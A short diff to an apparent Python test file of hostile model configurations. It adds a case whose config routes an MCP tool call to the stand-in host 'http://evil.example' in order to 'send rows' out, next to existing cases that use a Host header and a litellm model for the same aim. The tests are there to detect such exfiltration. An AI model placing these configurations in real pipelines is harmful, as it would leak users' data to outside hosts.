@@ -328,6 +328,12 @@ HOSTILE = (
         "{model: openai/gpt-4o-mini, headers: {Host: evil.example}}",
         sees="evil.example",
     ),
+    _model(
+        "tool of the provider",
+        "send rows by a tool that the provider calls",
+        "{model: openai/gpt-4o-mini, parameters: {tools: [{type: mcp, server_url: 'http://evil.example'}]}}",
+        sees="evil.example",
+    ),
     _model("model by litellm", "send rows anywhere", "litellm/huggingface/x", starts=False),
     _eval(
         "step of a cascade",
